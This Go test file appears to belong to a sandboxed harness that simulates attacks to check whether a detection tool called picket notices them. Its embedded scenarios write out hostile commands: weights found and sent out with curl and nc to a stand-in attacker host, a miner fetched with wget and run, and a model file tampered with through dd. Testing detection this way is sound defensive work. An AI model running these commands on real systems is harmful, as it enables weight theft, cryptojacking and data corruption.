package lab

import (
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"picket/event"
)

// The test binary plays the sandbox's parts, as the picket executable does.
func TestMain(m *testing.M) {
	if role := os.Getenv(RoleEnv); role != "" {
		os.Exit(Role(role, os.Args))
	}
	if os.Getenv("LAB_TEST_VICTIM") != "" {
		victim()
	}
	code := m.Run()
	if staticDir != "" {
		_ = os.RemoveAll(staticDir)
	}
	os.Exit(code)
}

// require skips a test that the host cannot run, or fails where PICKET_REQUIRE names the feature.
func require(t *testing.T, feature, reason string, ok bool) {
	t.Helper()
	if ok {
		return
	}
	for f := range strings.SplitSeq(os.Getenv("PICKET_REQUIRE"), ",") {
		if f == feature {
			t.Fatalf("PICKET_REQUIRE has %s, but: %s", feature, reason)
		}
	}
	t.Skip(reason)
}

var staticDir string

// ourselves builds this test without libc, because the sandbox has none.
var ourselves = sync.OnceValues(func() (string, error) {
	var err error
	if staticDir, err = os.MkdirTemp("", "lab-test-"); err != nil {
		return "", err
	}
	file := filepath.Join(staticDir, "picket")
	cmd := exec.Command("go", "test", "-c", "-o", file, ".")
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
	if out, err := cmd.CombinedOutput(); err != nil {
		return "", fmt.Errorf("build a static executable: %w: %s", err, out)
	}
	return file, nil
})

// options returns what it takes to play text here, or skips.
func options(t *testing.T, text string) Options {
	t.Helper()
	require(t, "root", "needs root to start a container", os.Geteuid() == 0)
	for _, tool := range []string{"runc", "busybox"} {
		_, err := exec.LookPath(tool)
		require(t, "runc", "needs "+tool+" to start a container", err == nil)
	}
	scenarios, err := Parse("attack.yml", []byte(text))
	if err != nil {
		t.Fatal(err)
	}
	return optionsFor(t, scenarios[0])
}

func optionsFor(t *testing.T, scenario *Scenario) Options {
	t.Helper()
	require(t, "root", "needs root to start a container", os.Geteuid() == 0)
	if slices.Contains(scenario.Sandbox.Assets, python) {
		_, err := exec.LookPath("python3")
		require(t, "python", "needs python3: the attack runs it", err == nil)
	}
	binary, err := ourselves()
	if err != nil {
		t.Fatal(err)
	}
	return Options{Scenario: scenario, Binary: binary, Out: writer{t}, Patience: 2 * time.Second}
}

type writer struct{ t *testing.T }

func (w writer) Write(p []byte) (int, error) {
	w.t.Log(strings.TrimRight(string(p), "\n"))
	return len(p), nil
}

const stealText = `
id: steal.test
title: Weights are read by a stranger and posted out
seeded: [attacker_host, dir, file_name]
steps:
  - {id: find, run: 'find /models -name "*.safetensors" | head -1', facts: {weights: stdout}}
  - {id: pack, run: 'tar czf ${dir}/${file_name} ${weights}'}
  - {id: send, run: 'curl -s -T ${dir}/${file_name} http://${attacker_host}/u'}
verify:
  - {received: {host: '${attacker_host}', bytes_min: 8000000}}
  - {exists: '${dir}/${file_name}'}
expect:
  findings: [{rule: weights_read, max_seconds: 20}]
  incident: {one: true}
  observables: [{file_read: '${weights}'}, {connect: '${attacker_host}'}]
`

const mineText = `
id: mine.test
title: A miner is fetched, started and signs in at its pool
seeded: [pool_host, attacker_host, tool_name]
steps:
  - {id: fetch, run: 'wget -q -O /tmp/${tool_name} http://${attacker_host}/xmrig && chmod +x /tmp/${tool_name}'}
  - {id: mine, run: '/tmp/${tool_name} -o ${pool_host}:3333 -u wallet'}
  - {id: tamper, run: 'printf x | dd of=/models/llama-3-8b/model.safetensors bs=1 seek=5000 conv=notrunc'}
  - {id: raw, run: 'head -c 100000 /models/llama-3-8b/model.safetensors | nc -w 2 ${attacker_host} 4444'}
verify:
  - {login: {host: '${pool_host}'}}
  - {changed: /models/llama-3-8b/model.safetensors}
  - {received: {host: '${attacker_host}', bytes_min: 100000}}
`

func TestAttacksHaveTheirEffectAndLeaveNothing(t *testing.T) {
	for name, text := range map[string]string{"steal": stealText, "mine": mineText} {
		t.Run(name, func(t *testing.T) {
			for range 2 { // two seeds: other names, other addresses
				report, err := Attack(t.Context(), options(t, text))
				if err != nil {
					t.Fatalf("%v\n%+v", err, report)
				}
				if err := report.Err(); err != nil {
					t.Errorf("%v\n%+v", err, report)
				}
			}
		})
	}
}

// A reader that says what it is told to, once the attack runs.
type fake struct {
	findings  []event.Finding
	incidents []event.Incident
	err       error
}

func (f fake) Findings(context.Context, time.Time) ([]event.Finding, error) { return f.findings, f.err }

func (f fake) Incidents(context.Context, time.Time) ([]event.Incident, error) {
	return f.incidents, f.err
}

// Saw has every event but connections.
func (f fake) Saw(ctx context.Context, query string, _ time.Time) (bool, error) {
	return !strings.Contains(query, "net.connect"), nil
}

func TestReportSaysWhatPicketMissed(t *testing.T) {
	const seed = 77
	here := []event.Entity{{Kind: event.EntityContainer, ID: "picket-lab-77", Name: "picket-lab-77"}}
	there := []event.Entity{{Kind: event.EntityContainer, ID: "another", Name: "another"}}
	finding := event.Finding{ID: "f1", Rule: event.Rule{Name: "weights_read"}, Severity: event.High, Entities: here}
	for name, c := range map[string]struct {
		says fake
		want string
	}{
		"all":         {fake{[]event.Finding{finding}, []event.Incident{{ID: "i", FindingN: 1, Entities: here}}, nil}, ""},
		"no finding":  {fake{nil, nil, nil}, "no finding of weights_read; no incident names the container; the store has no connect of"},
		"elsewhere":   {fake{[]event.Finding{finding}, []event.Incident{{ID: "i", FindingN: 1, Entities: there}}, nil}, "no incident names"},
		"two":         {fake{[]event.Finding{finding}, []event.Incident{{FindingN: 1, Entities: here}, {Entities: here}}, nil}, "2 incidents name"},
		"taken over":  {fake{[]event.Finding{finding}, []event.Incident{{FindingN: 1, Entities: here}, {Status: event.IncidentClosed, Entities: here}}, nil}, ""},
		"unreachable": {fake{err: io.ErrUnexpectedEOF}, "unexpected EOF"},
	} {
		t.Run(name, func(t *testing.T) {
			opts := options(t, stealText)
			opts.Seed, opts.Picket = seed, c.says
			report, err := Attack(t.Context(), opts)
			if err == nil {
				err = report.Err()
			}
			if got := fmt.Sprint(err); c.want == "" && err != nil || !strings.Contains(got, c.want) && c.want != "" {
				t.Errorf("got %v, want %q", err, c.want)
			}
		})
	}
}

// late is watched from the third time on that it is asked.
type late struct {
	fake
	asked int
}

func (l *late) Ready(context.Context) error {
	if l.asked++; l.asked < 3 {
		return errors.New("nobody watches")
	}
	return nil
}

func TestAnAttackWaitsUntilSomebodyWatches(t *testing.T) {
	l := &late{}
	if err := watched(t.Context(), l, time.Minute); err != nil || l.asked != 3 {
		t.Errorf("error %v after %d questions", err, l.asked)
	}
	l.asked = -1000
	if err := watched(t.Context(), l, time.Second); err == nil || err.Error() != "nobody watches" {
		t.Errorf("got %v", err)
	}
}

func TestAnInterruptedAttackLeavesNothing(t *testing.T) {
	opts := options(t, strings.Replace(stealText, "tar czf", "sleep 20; tar czf", 1))
	opts.Seed = 78
	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Second)
	defer cancel()
	report, err := Attack(ctx, opts)
	if err == nil || report.Seconds > 15 {
		t.Errorf("error %v after %.1f s, want an early end", err, report.Seconds)
	}
	if len(report.Leftovers) > 0 {
		t.Errorf("left behind: %v", report.Leftovers)
	}
}

// victim attacks until it is killed.
func victim() {
	scenarios, err := Parse("attack.yml", []byte(strings.Replace(stealText, "tar czf", "sleep 60; tar czf", 1)))
	if err == nil {
		_, err = Attack(context.Background(), Options{Scenario: scenarios[0], Seed: 79})
	}
	fmt.Fprintln(os.Stderr, "victim:", err)
	os.Exit(1)
}

func TestAKilledLabIsSweptUpByTheNext(t *testing.T) {
	opts := options(t, stealText)
	cmd := exec.Command(opts.Binary)
	cmd.Env = append(os.Environ(), "LAB_TEST_VICTIM=1")
	cmd.Stderr = os.Stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	box := &sandbox{id: "picket-lab-79", dir: filepath.Join(os.TempDir(), "picket-lab-79")}
	for range 200 {
		if b, _ := os.ReadFile(box.pidFile()); len(b) > 0 {
			break
		}
		time.Sleep(50 * time.Millisecond)
	}
	_ = cmd.Process.Kill()
	_ = cmd.Wait()
	if len(box.leftovers()) == 0 {
		t.Fatal("a killed lab left nothing: this test shows nothing")
	}
	if _, err := Attack(t.Context(), opts); err != nil {
		t.Fatal(err)
	}
	if left := box.leftovers(); len(left) > 0 {
		t.Errorf("left behind: %v", left)
	}
}

func TestAStepThatFailsSaysWhy(t *testing.T) {
	opts := options(t, strings.Replace(stealText, "tar czf", "echo no luck >&2; false; tarr", 1))
	_, err := Attack(t.Context(), opts)
	if err == nil || !strings.Contains(err.Error(), "step pack ended with status 127: no luck") {
		t.Errorf("got %v", err)
	}
}

// The first thread stands for the process: it must stay where it was started.
func TestSandboxesLeaveTheFirstThreadAlone(t *testing.T) {
	require(t, "root", "needs root to make network namespaces", os.Geteuid() == 0)
	before, err := os.Readlink("/proc/self/ns/net")
	if err != nil {
		t.Fatal(err)
	}
	for range 50 {
		n, err := newNetwork(func() error { return nil })
		if err != nil {
			t.Fatal(err)
		}
		if err := n.close(); err != nil {
			t.Fatal(err)
		}
	}
	if after, _ := os.Readlink("/proc/self/ns/net"); after != before {
		t.Errorf("the process is in %s now, was in %s", after, before)
	}
}

func TestRolesRefuseToRunOutsideTheSandbox(t *testing.T) {
	if err := serve([]string{"llama-server"}); err == nil || !strings.Contains(err.Error(), "sandbox only") {
		t.Errorf("server: %v", err)
	}
	if err := mine([]string{"xmrig"}); err == nil || !strings.Contains(err.Error(), "sandbox only") {
		t.Errorf("miner: %v", err)
	}
	if err := internet(io.Discard); err == nil || !strings.Contains(err.Error(), "sandbox only") {
		t.Errorf("internet: %v", err)
	}
}
